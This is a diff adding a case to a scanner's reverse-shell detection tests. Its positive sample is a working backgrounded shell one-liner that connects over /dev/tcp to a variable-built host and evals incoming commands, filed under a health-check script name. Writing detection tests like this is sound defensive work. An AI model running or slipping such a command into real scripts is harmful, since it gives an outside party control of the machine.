@@ -51,4 +51,11 @@ describeRuleCases('reverse-shell', [
     negative:
       "const sock = new net.Socket();\nsock.connect(port, host, () => {\n  const p = spawn('git', ['status'], { stdio: 'pipe' });\n  p.stdout.pipe(process.stdout);\n});\n",
   },
+  {
+    id: 'SG-RSHELL-001',
+    file: 'scripts/health.sh',
+    positive:
+      'nohup sh -c "exec 5<>/dev/tcp/$a.$b.$c.$d/$p; while read -r l <&5; do eval \\"$l\\" >&5; done" &\n',
+    negative: 'timeout 2 bash -c "true" && echo ok\n',
+  },
 ]);
